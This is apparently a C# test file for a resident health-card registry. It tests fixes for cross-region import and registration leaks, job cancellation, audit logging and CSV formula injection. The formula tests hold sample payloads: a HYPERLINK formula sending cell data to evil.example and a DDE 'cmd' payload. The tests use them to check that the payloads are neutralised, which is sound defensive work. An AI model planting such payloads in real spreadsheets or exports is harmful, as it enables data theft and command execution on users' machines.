using System.Diagnostics;
using System.Net;
using System.Text;
using System.Text.Json;
using HealthCard.App.Audit;
using HealthCard.App.Common;
using HealthCard.App.Features.Imports;
using HealthCard.Domain.Common;
using HealthCard.Domain.Residents;
using HealthCard.TestKit;
using HealthCard.Web.Tests.Registry;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;

namespace HealthCard.Web.Tests.Imports;

/// <summary>
/// Issue 14, findings 4 (a job that fails is never resumed; operators cancel), 8 (rejection downloads and merges are
/// audited), 9 (imports and registration stay in the caller's region) and 12 (formula injection), written as the
/// attacks: each request that succeeded before is refused now.
/// </summary>
public sealed class ImportSecurityTests
{
    private const string Header = "身份证号,姓名,性别,民族,出生日期,联系电话,地址";

    // ---- Finding 9: an import by district 130102 merged a tag into a 130105 resident, and its report told names ------

    [Theory]
    [MemberData(nameof(Hosts.Databases), MemberType = typeof(Hosts))]
    public async Task Import_ByAnotherDistrict_NeitherMergesIntoNorDescribes_AResidentItCannotSee_AndEachRefusalIsAudited(TestDatabase database)
    {
        await using var host = await Hosts.StartAsync(database);
        var admin = host.Client();
        var same = await RegisterAsync(admin, Residents.Valid(county: "130105"));  // the attacker knows name and birth date
        var other = await RegisterAsync(admin, Residents.Valid(county: "130105")); // the attacker guesses a wrong name
        var changan = host.Client(await host.CreateKeyAsync("changan-import", "130102", Scope.RegistryWrite, Scope.RegistryRead));
        string[] lines = [Header, ImportKit.Line(same.Draft.IdNumber!, same.Draft.Name!), ImportKit.Line(other.Draft.IdNumber!, "另一个名字")];
        var file = Encoding.UTF8.GetBytes(string.Join("\r\n", lines) + "\r\n");

        var job = await ImportKit.ImportAsync(changan, file, "changan.csv", "130102", tag: "newborn");

        ImportKit.Counts(job).ShouldBe((0, 0, 2, 0));
        var rejections = await ImportKit.RejectionsAsync(changan, job.GetProperty("id").GetGuid());
        // Both rows get the same answer, whether the name was right or wrong: no name, birth date or region in it.
        rejections.Select(r => (r.Code, r.Zh, r.En)).Distinct().ShouldHaveSingleItem().Code.ShouldBe(ImportErrors.RowElsewhere);
        rejections.ShouldAllBe(r => !r.En.Contains("130105") && !r.Zh.Contains("130105") && !r.En.Contains("name or birth date"));
        // The residents elsewhere are untouched: no tag, no version, no source record.
        foreach (var resident in new[] { same, other })
        {
            var now = await GetAsync(admin, resident.Id);
            now.GetProperty("version").GetInt32().ShouldBe(resident.Version);
            now.GetProperty("tags").EnumerateArray().Select(t => t.GetString()).ShouldNotContain("newborn");
            // Each refusal is audited under that resident and its region (its auditors see the attempt).
            (await AuditAsync(host, resident.Id.ToString())).Where(e => e.Action == "import.merge").Select(e => (e.Outcome, e.RegionCode, e.Actor))
                .ShouldBe([(ImportErrors.RowElsewhere, "130105", "changan-import")]);
        }
        await host.WithDbAsync(async db => (await db.Set<ResidentSource>().CountAsync()).ShouldBe(0));

        // Within the caller's region the same row still merges: a city key covering 130105.
        var city = host.Client(await host.CreateKeyAsync("sjz-import", "1301", Scope.RegistryWrite, Scope.RegistryRead));
        var merged = await ImportKit.ImportAsync(city, Encoding.UTF8.GetBytes(lines[0] + "\r\n" + lines[1] + "\r\n"), "sjz.csv", "130102", tag: "newborn");
        ImportKit.Counts(merged).ShouldBe((0, 1, 0, 0));
        (await GetAsync(admin, same.Id)).GetProperty("tags").EnumerateArray().Select(t => t.GetString()).ShouldContain("newborn");
    }

    [Theory]
    [MemberData(nameof(Hosts.Databases), MemberType = typeof(Hosts))]
    public async Task Register_AnIdNumberRegisteredInAnotherRegion_SaysOnlyThatItExistsElsewhere_AndIsAudited(TestDatabase database)
    {
        await using var host = await Hosts.StartAsync(database);
        var admin = host.Client();
        var resident = await RegisterAsync(admin, Residents.Valid(county: "130105"));
        var changan = host.Client(await host.CreateKeyAsync("changan-register", "130102", Scope.RegistryWrite, Scope.RegistryRead));
        var attempt = Residents.Valid(resident.Draft.IdNumber, county: "130102") with { Name = "冒名者" };

        var response = await changan.PostJsonAsync("/api/v1/residents", attempt);

        var problem = await response.ShouldBeProblemAsync(HttpStatusCode.Conflict, "resident.exists_elsewhere");
        var body = problem.GetRawText();
        body.ShouldNotContain("130105");
        body.ShouldNotContain(resident.Draft.Name!);
        body.ShouldNotContain(resident.Id.ToString());
        (await AuditAsync(host, resident.Id.ToString())).Where(e => e.Action == "resident.register").Select(e => (e.Outcome, e.RegionCode))
            .ShouldBe([("success", "130105"), ("resident.exists_elsewhere", "130105")]);

        // Within the caller's region the answer is the plain duplicate, as before; without residents.write, 403.
        var city = host.Client(await host.CreateKeyAsync("sjz-register", "1301", Scope.RegistryWrite));
        await (await city.PostJsonAsync("/api/v1/residents", Residents.Valid(resident.Draft.IdNumber, county: "130105")))
            .ShouldBeProblemAsync(HttpStatusCode.Conflict, "resident.duplicate");
        var reader = host.Client(await host.CreateKeyAsync("sjz-reader", "1301", Scope.RegistryRead));
        await (await reader.PostJsonAsync("/api/v1/residents", Residents.Valid(county: "130105")))
            .ShouldBeProblemAsync(HttpStatusCode.Forbidden, "auth.forbidden");
    }

    // ---- Finding 4: a job is never resumed in a loop; operators cancel ------------------------------------------------

    [Theory]
    [MemberData(nameof(Hosts.Databases), MemberType = typeof(Hosts))]
    public async Task Job_ThatStoppedThreeTimesWithoutProgress_IsFailedAtTheNextStart_NotRunAgain(TestDatabase database)
    {
        await using var host = await Hosts.StartAsync(database);
        using var text = new StringWriter();
        PopulationFiles.WriteCsv(text, rows: 20, county: "130105", seed: 5);
        var crashed = await StoredJobAsync(host, Encoding.UTF8.GetBytes(text.ToString()), attempts: ImportErrors.MaxAttempts);
        var interrupted = await StoredJobAsync(host, Encoding.UTF8.GetBytes(text.ToString().Replace("\n", "\r\n", StringComparison.Ordinal)),
            attempts: ImportErrors.MaxAttempts - 1);

        await ImportMemoryTests.RestartWorkerAsync(host);

        var admin = host.Client();
        var failed = await ImportKit.WaitAsync(admin, crashed);
        failed.GetProperty("status").GetString().ShouldBe("failed");
        failed.GetProperty("errorCode").GetString().ShouldBe(ImportErrors.AttemptsExhaustedCode);
        failed.GetProperty("processedLines").GetInt32().ShouldBe(0);
        // One attempt left: it runs, and its progress clears the count.
        var resumed = await ImportKit.WaitAsync(admin, interrupted);
        resumed.GetProperty("status").GetString().ShouldBe("completed");
        ImportKit.Counts(resumed).Accepted.ShouldBe(20);
        await host.WithDbAsync(async db =>
        {
            (await db.Set<ImportJob>().SingleAsync(j => j.Id == interrupted)).Attempts.ShouldBe(0);
            (await db.Set<ImportFileSegment>().CountAsync()).ShouldBe(0);
        });
        await ImportMemoryTests.RestartWorkerAsync(host);
        (await ImportKit.WaitAsync(admin, crashed)).GetProperty("status").GetString().ShouldBe("failed");
    }

    [Theory]
    [MemberData(nameof(Hosts.Databases), MemberType = typeof(Hosts))]
    public async Task Cancel_StopsAJobForGood_IsAudited_AndIsRefusedOutsideTheRegion_WithoutImportsWrite_AndOnceEnded(TestDatabase database)
    {
        await using var host = await Hosts.StartAsync(database);
        var sjz = host.Client(await host.CreateKeyAsync("sjz-import", "1301", Scope.RegistryWrite, Scope.RegistryRead));
        var baoding = host.Client(await host.CreateKeyAsync("bd-import", "1306", Scope.RegistryWrite, Scope.RegistryRead));
        var reader = host.Client(await host.CreateKeyAsync("sjz-reader", "1301", Scope.RegistryRead));
        using var text = new StringWriter();
        PopulationFiles.WriteCsv(text, rows: 200, county: "130105", seed: 6);
        // The worker is stopped, as on a busy node: the job waits in the queue.
        var worker = host.Services.GetServices<Microsoft.Extensions.Hosting.IHostedService>().OfType<ImportWorker>().Single();
        await worker.StopAsync(CancellationToken.None);
        var upload = await ImportKit.UploadAsync(sjz, Encoding.UTF8.GetBytes(text.ToString()), "cancel.csv", "130105");
        upload.StatusCode.ShouldBe(HttpStatusCode.Accepted);
        var id = (await upload.ReadJsonAsync()).GetProperty("id").GetGuid();

        await (await baoding.PostAsync($"/api/v1/imports/{id}/cancel", null)).ShouldBeProblemAsync(HttpStatusCode.NotFound, "not_found");
        await (await reader.PostAsync($"/api/v1/imports/{id}/cancel", null)).ShouldBeProblemAsync(HttpStatusCode.Forbidden, "auth.forbidden");
        var cancelled = await sjz.PostAsync($"/api/v1/imports/{id}/cancel", null);

        cancelled.StatusCode.ShouldBe(HttpStatusCode.OK, await cancelled.Content.ReadAsStringAsync());
        (await cancelled.ReadJsonAsync()).GetProperty("status").GetString().ShouldBe("cancelled");
        await worker.StartAsync(CancellationToken.None); // a restart does not resume it
        await Task.Delay(500, TestContext.Current.CancellationToken);
        var job = await (await sjz.GetAsync($"/api/v1/imports/{id}")).ReadJsonAsync();
        job.GetProperty("status").GetString().ShouldBe("cancelled");
        job.GetProperty("errorCode").GetString().ShouldBe(ImportErrors.CancelledCode);
        ImportKit.Counts(job).ShouldBe((0, 0, 0, 0));
        await (await sjz.PostAsync($"/api/v1/imports/{id}/cancel", null)).ShouldBeProblemAsync(HttpStatusCode.Conflict, "import.not_cancellable");
        await host.WithDbAsync(async db =>
        {
            (await db.Set<ImportFileSegment>().CountAsync()).ShouldBe(0, "a cancelled job's upload is dropped");
            (await db.Residents.CountAsync()).ShouldBe(0);
        });
        (await RegistrySetup.AuditOfAsync(host, id.ToString())).ShouldBe([
            ("import.start", "success"), ("import.cancel", "not_found"), ("import.cancel", "success"), ("import.cancel", "import.not_cancellable")]);
        // The same file again is the same (cancelled) job: it is not imported behind the operator's back.
        (await ImportKit.UploadAsync(sjz, Encoding.UTF8.GetBytes(text.ToString()), "cancel.csv", "130105")).StatusCode.ShouldBe(HttpStatusCode.OK);
    }

    // ---- Finding 8 (parts): who downloaded which job's rejections; merges per resident, at a sane cost ---------------

    [Fact]
    public async Task RejectionDownload_IsAudited_WithTheDownloader_AndRefusedWithoutImportsWrite()
    {
        await using var host = await Hosts.StartAsync(TestDatabase.Sqlite);
        var importer = host.Client(await host.CreateKeyAsync("importer", "1301", Scope.RegistryWrite, Scope.RegistryRead));
        var reviewer = host.Client(await host.CreateKeyAsync("reviewer", "1301", Scope.RegistryWrite, Scope.RegistryRead));
        var reader = host.Client(await host.CreateKeyAsync("reader", "1301", Scope.RegistryRead));
        var file = Encoding.UTF8.GetBytes($"{Header}\r\n{ImportKit.Line("110101199001011230", "王芳", gender: "1", birthDate: "19900101")}\r\n");
        var id = (await ImportKit.ImportAsync(importer, file, "bad.csv", "130105")).GetProperty("id").GetGuid();

        (await ImportKit.RejectionsAsync(reviewer, id)).ShouldHaveSingleItem();
        await (await reader.GetAsync($"/api/v1/imports/{id}/rejections")).ShouldBeProblemAsync(HttpStatusCode.Forbidden, "auth.forbidden");

        var entries = await AuditAsync(host, id.ToString());
        var start = entries.Single(e => e.Action == "import.start");
        var download = entries.Single(e => e.Action == "import.rejections");
        download.Outcome.ShouldBe("success");
        download.RegionCode.ShouldBe("130105");
        download.Actor.ShouldNotBe(start.Actor);
        download.Actor.ShouldContain("reviewer");
    }

    [Theory]
    [MemberData(nameof(Hosts.Databases), MemberType = typeof(Hosts))]
    public async Task Merges_WriteOneAuditEntryPerResident_InTheChain_AtACostComparableToNewRows(TestDatabase database)
    {
        const int Rows = 10_000;
        await using var host = await Hosts.StartAsync(database);
        var admin = host.Client();
        using var text = new StringWriter();
        PopulationFiles.WriteCsv(text, rows: Rows, county: "130105", seed: 21);
        var file = Encoding.UTF8.GetBytes(text.ToString());

        var clock = Stopwatch.StartNew();
        var created = await ImportKit.ImportAsync(admin, file, "first.csv", "130105", tag: "poverty");
        var createdTime = clock.Elapsed;
        clock.Restart();
        var merged = await ImportKit.ImportAsync(admin, file, "again.csv", "130105", tag: "ncms", source: "新农合");
        var mergedTime = clock.Elapsed;

        ImportKit.Counts(created).Accepted.ShouldBe(Rows);
        ImportKit.Counts(merged).ShouldBe((0, Rows, 0, 0));
        TestContext.Current.TestOutputHelper?.WriteLine(
            $"{database}: {Rows:N0} new rows in {createdTime.TotalSeconds:F1} s; the same rows merged, with {Rows:N0} audit entries, in {mergedTime.TotalSeconds:F1} s");
        await host.WithDbAsync(async db =>
        {
            var entries = await db.AuditEntries.Where(a => a.Action == "import.merge").ToListAsync();
            entries.Count.ShouldBe(Rows);
            entries.Select(e => e.TargetId).Distinct().Count().ShouldBe(Rows);
            entries.ShouldAllBe(e => e.Outcome == "success" && e.RegionCode == "130105" && e.Details!.Contains("\"ncms\""));
        });
        await using (var scope = host.Services.CreateAsyncScope())
        {
            (await scope.ServiceProvider.GetRequiredService<AuditVerifier>().VerifyAsync(Caller.System, CancellationToken.None)).Value.Valid.ShouldBeTrue();
        }
        mergedTime.ShouldBeLessThan(createdTime * 3 + TimeSpan.FromSeconds(5), "per-resident audit entries must not make merging pathological");
    }

    // ---- Finding 12: the rejection CSV wrote uploaded lines unescaped (=HYPERLINK(…)) ---------------------------------

    [Fact]
    public async Task RejectionReport_WritesUploadedFormulas_AsText()
    {
        await using var host = await Hosts.StartAsync(TestDatabase.Sqlite);
        var admin = host.Client();
        // Each line's first cell (its ID number) is a formula: the row is rejected and its line goes into the report.
        string[] formulas = ["=HYPERLINK(\"http://evil.example/?x=\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "＝1+1"];
        var lines = formulas.Select(f => $"{f},张伟,1,01,1990-01-01,13912345678,地址").ToList();
        var file = Encoding.UTF8.GetBytes(string.Join("\r\n", [Header, .. lines]) + "\r\n");
        var id = (await ImportKit.ImportAsync(admin, file, "formulas.csv", "130105")).GetProperty("id").GetGuid();

        var cells = (await ImportKit.RejectionsAsync(admin, id)).Select(r => r.Content).ToList();

        cells.Count.ShouldBe(formulas.Length);
        cells.ShouldAllBe(c => c.StartsWith('\''), "every content cell that starts like a formula starts with an apostrophe");
        cells.Select(c => c[1..]).ShouldBe(lines, "behind the apostrophe the line is kept as it was sent");
    }

    [Fact]
    public void CsvCells_NeutraliseFormulaCells_QuotePerRfc4180_AndKeepPlainNumbers()
    {
        CsvCells.Escape("=1+1").ShouldBe("'=1+1");
        CsvCells.Escape("+86 139").ShouldBe("'+86 139");
        CsvCells.Escape("-2+3").ShouldBe("'-2+3");
        CsvCells.Escape("@SUM(A1)").ShouldBe("'@SUM(A1)");
        CsvCells.Escape("\t=1").ShouldBe("'\t=1");
        CsvCells.Escape("\r=1").ShouldBe("\"'\r=1\"");
        CsvCells.Escape("＝1+1").ShouldBe("'＝1+1");
        CsvCells.Escape("=A1,B1").ShouldBe("\"'=A1,B1\"");
        CsvCells.Escape("say \"hi\"").ShouldBe("\"say \"\"hi\"\"\"");
        CsvCells.Escape("-0.25").ShouldBe("-0.25");
        CsvCells.Escape("-12").ShouldBe("-12");
        CsvCells.Escape("张伟").ShouldBe("张伟");
        CsvCells.Escape(null).ShouldBe("");
        CsvCells.Line("a", "=b", null).ShouldBe("a,'=b,\r\n");
    }

    [Fact]
    public void MonthlyReportCsv_NeutralisesTextCells_AndKeepsNegativeChanges_AsNumbers()
    {
        var figures = new App.Features.Statistics.RegionFigures(new Dictionary<string, long>(), new Dictionary<string, long>(), 0, null, null, []);
        var line = new App.Features.Statistics.ReportLine("130105", "=HYPERLINK(\"http://evil.example\")", 5, 10, -0.5, 100, figures, []);
        var report = new App.Features.Statistics.MonthlyReportData("1301", "石家庄市", "2026-10", DateTimeOffset.UnixEpoch, line, [], [], []);

        var csv = Encoding.UTF8.GetString(App.Features.Statistics.MonthlyReportFiles.ToCsv(report).AsSpan(3));

        var cells = csv.Split("\r\n")[1];
        cells.ShouldContain(",\"'=HYPERLINK(\"\"http://evil.example\"\")\",");
        cells.ShouldContain(",-0.5,");
    }

    // ---- Authorization in the use cases: the API, the console and the command line get the same answer ----------------

    [Fact]
    public async Task EveryImportUseCase_AndRegistration_RefuseACallerWithoutTheCapability_BeforeTheyAct()
    {
        await using var host = await Hosts.StartAsync(TestDatabase.Sqlite);
        await using var scope = host.Services.CreateAsyncScope();
        var services = scope.ServiceProvider;
        var nobody = new Caller("attacker", "", new HashSet<string>(), Domain.Common.Channel.Api);
        var reader = new Caller("reader", "", new HashSet<string> { Scope.RegistryRead }, Domain.Common.Channel.Api);
        var id = Guid.NewGuid();
        var ct = CancellationToken.None;

        Error?[] refused =
        [
            (await services.GetRequiredService<StartImport>().ExecuteAsync(reader, new ImportRequest("a.csv", "130105", null, null, true),
                () => throw new InvalidOperationException("read before authorizing"), ct)).Error,
            (await services.GetRequiredService<ListImports>().ExecuteAsync(nobody, null, new PageRequest(), ct)).Error,
            (await services.GetRequiredService<GetImport>().ExecuteAsync(nobody, id, ct)).Error,
            (await services.GetRequiredService<GetImportRejections>().ExecuteAsync(reader, id, ct)).Error,
            (await services.GetRequiredService<CancelImport>().ExecuteAsync(reader, id, ct)).Error,
            (await services.GetRequiredService<App.Features.Residents.RegisterResident>().ExecuteAsync(reader, Residents.Valid(), ct)).Error,
        ];

        refused.ShouldAllBe(e => e is Domain.Common.Forbidden && e.Code == "auth.forbidden");
        (await RegistrySetup.AuditOfAsync(host, id.ToString())).ShouldBeEmpty("a refusal by capability acts on nothing");
    }

    // ---- Helpers ----------------------------------------------------------------------------------------------------

    private sealed record Registered(Guid Id, int Version, ResidentDraft Draft);

    private static async Task<Registered> RegisterAsync(HttpClient client, ResidentDraft draft)
    {
        var response = await client.PostJsonAsync("/api/v1/residents", draft);
        response.StatusCode.ShouldBe(HttpStatusCode.Created, await response.Content.ReadAsStringAsync());
        var body = await response.ReadJsonAsync();
        return new Registered(body.GetProperty("id").GetGuid(), body.GetProperty("version").GetInt32(), draft);
    }

    private static async Task<JsonElement> GetAsync(HttpClient client, Guid id)
    {
        var response = await client.GetAsync($"/api/v1/residents/{id}");
        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        return await response.ReadJsonAsync();
    }

    private static async Task<List<AuditEntry>> AuditAsync(HealthCardHost host, string targetId)
    {
        var entries = new List<AuditEntry>();
        await host.WithDbAsync(async db => entries = await db.AuditEntries.AsNoTracking().Where(a => a.TargetId == targetId).OrderBy(a => a.Sequence).ToListAsync());
        return entries;
    }

    /// <summary>A job as a crashed worker leaves it: running, its upload kept, <paramref name="attempts"/> runs counted.</summary>
    private static async Task<Guid> StoredJobAsync(HealthCardHost host, byte[] file, int attempts)
    {
        var id = Guid.CreateVersion7();
        await using var scope = host.Services.CreateAsyncScope();
        var facts = await ImportFileFacts.InspectAsync(new MemoryStream(file), CancellationToken.None);
        await scope.ServiceProvider.GetRequiredService<ImportFileStore>().SaveAsync(id, new MemoryStream(file), CancellationToken.None);
        var db = scope.ServiceProvider.GetRequiredService<App.Persistence.HealthCardDb>();
        var now = DateTimeOffset.UtcNow;
        db.Set<ImportJob>().Add(new ImportJob
        {
            Id = id, FileName = "crash.csv", FileHash = facts.Hash, Format = ImportFormat.Csv, Encoding = facts.Encoding, RegionCode = "130105",
            Source = id.ToString("N")[..20], Status = ImportStatus.Running, FileStored = true, Node = "test-node", Actor = "system", ActorRegion = "",
            Channel = "system", TotalLines = facts.TotalLines, Attempts = attempts, CreatedAt = now, UpdatedAt = now,
        });
        await db.SaveChangesAsync();
        return id;
    }
}
